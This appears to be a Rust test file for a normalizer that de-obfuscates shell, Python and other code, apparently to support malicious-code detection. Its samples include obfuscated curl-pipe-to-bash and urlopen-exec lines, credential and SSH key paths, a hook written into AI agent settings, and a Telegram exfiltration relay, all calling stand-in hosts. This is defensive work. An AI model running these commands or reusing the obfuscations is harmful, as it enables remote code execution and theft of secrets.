//! The normal form, on strings.

use super::{render, Lang, Unit};

fn normal(lang: Lang, src: &str) -> String {
    render(&Unit {
        lang,
        src,
        first_line: 0,
    })
    .map(|r| r.text)
    .unwrap_or_default()
}

#[test]
fn shell_words_are_read_as_the_shell_reads_them() {
    assert!(normal(Lang::Shell, "c''url https://x.test/p | b\"a\"sh\n")
        .contains("curl https://x.test/p | bash"));
    assert!(normal(Lang::Shell, "$'\\x63url' https://x.test/p | sh\n")
        .contains("curl https://x.test/p | sh"));
    assert!(
        normal(Lang::Shell, "curl${IFS}https://x.test/p|sh\n").contains("curl https://x.test/p")
    );
    assert!(normal(Lang::Shell, "cu\\\nrl https://x.test/p | sh\n")
        .contains("curl https://x.test/p | sh"));
}

#[test]
fn names_bound_to_expressions_read_as_them() {
    let out = normal(
        Lang::Python,
        "import json\np = os.path.expanduser('~/.claude/settings.json')\njson.dump({'hooks': 1}, open(p, 'w'))\n",
    );
    assert!(
        out.contains("open(os.path.expanduser('~/.claude/settings.json'), 'w')"),
        "{out}"
    );
    let out = normal(
        Lang::Python,
        "r = urlopen('https://x.test/p').read()\nexec(r)\n",
    );
    assert!(
        out.contains("exec(urlopen('https://x.test/p').read())"),
        "{out}"
    );
}

#[test]
fn nested_substitutions_render_in_linear_work() {
    // Each level's command name is itself a substitution: rendering a name
    // twice per level would take 2^40 steps.
    let depth = 40;
    let src = format!("{}echo x{}\n", "$(".repeat(depth), ") y".repeat(depth));
    let rendered = render(&Unit {
        lang: Lang::Shell,
        src: &src,
        first_line: 0,
    })
    .unwrap_or_default();
    assert!(!rendered.cut, "{}", rendered.text);
    assert!(rendered.text.contains("x y) y"), "{}", rendered.text);
}

#[test]
fn a_rendering_past_its_budget_says_it_was_cut() {
    let src = "a b c d e f g h\n".repeat(super::render::MAX_VISITS / 8);
    let rendered = render(&Unit {
        lang: Lang::Shell,
        src: &src,
        first_line: 0,
    })
    .unwrap_or_default();
    assert!(rendered.cut);
}

#[test]
fn the_line_index_answers_as_the_rendering_does() {
    let src = "import os\nx = 'a' + \\\n  'b'\nos.system(\"curl -s https://x.test | sh\")\n\nprint('y')\n";
    for lang in [Lang::Python, Lang::Shell] {
        let Some(rendered) = render(&Unit {
            lang,
            src,
            first_line: 3,
        }) else {
            continue;
        };
        let index = super::LineIndex::new(&rendered);
        for at in 0..rendered.text.len() + 4 {
            assert_eq!(index.line_of(at), rendered.line_of(at), "{lang:?} at {at}");
        }
        for line in 0..12 {
            assert_eq!(
                index.line_text(line),
                rendered.line_text(line),
                "{lang:?} {line}"
            );
        }
    }
}

#[test]
fn adjacent_literals_are_joined_whole() {
    use super::join_literals;
    let cases = [
        (r#"h = "pam_" + "per" + "mit.so""#, r#"h = "pam_permit.so""#),
        // A literal that is only a dot or a plus is joined, not lost.
        (
            r#"p := "." + "aws/credentials""#,
            r#"p := ".aws/credentials""#,
        ),
        ("$p = '.' . 'ssh/id_rsa';", "$p = '.ssh/id_rsa';"),
        (
            r#"local u = "https://" .. "x.io""#,
            r#"local u = "https://x.io""#,
        ),
        // Not literals side by side: left as written.
        (r#"strings.Split(host, ".")"#, r#"strings.Split(host, ".")"#),
        (r#"x = "a" + y + "b""#, r#"x = "a" + y + "b""#),
        (r#"s = "a\"" + "b""#, r#"s = "a\"b""#),
        (r#"m = "a" + 'b'"#, r#"m = "a" + 'b'"#),
    ];
    for (code, joined) in cases {
        assert_eq!(join_literals(code), joined, "{code}");
    }
    // Lines are kept.
    let two = "a = \"x\" + \"y\"\nb = 'é' . 'z'\n";
    let out = join_literals(two);
    assert_eq!(out, "a = \"xy\"\nb = 'éz'\n");
}

#[test]
fn literals_put_into_f_strings_and_templates_read_as_their_text() {
    let out = normal(
        Lang::Python,
        "BOT = \"77120:AAF\"\ndef relay(text):\n    q = urlencode({\"text\": text})\n    urlopen(f\"https://api.telegram.org/bot{BOT}/sendMessage?{q}\")\n",
    );
    assert!(
        out.contains("https://api.telegram.org/bot77120:AAF/sendMessage?{"),
        "{out}"
    );
    let out = normal(
        Lang::JavaScript,
        "const H = 'c.example.dev';\nfetch(`https://${H}/p?d=${data}`);\n",
    );
    assert!(out.contains("`https://c.example.dev/p?d=${data}`"), "{out}");
}
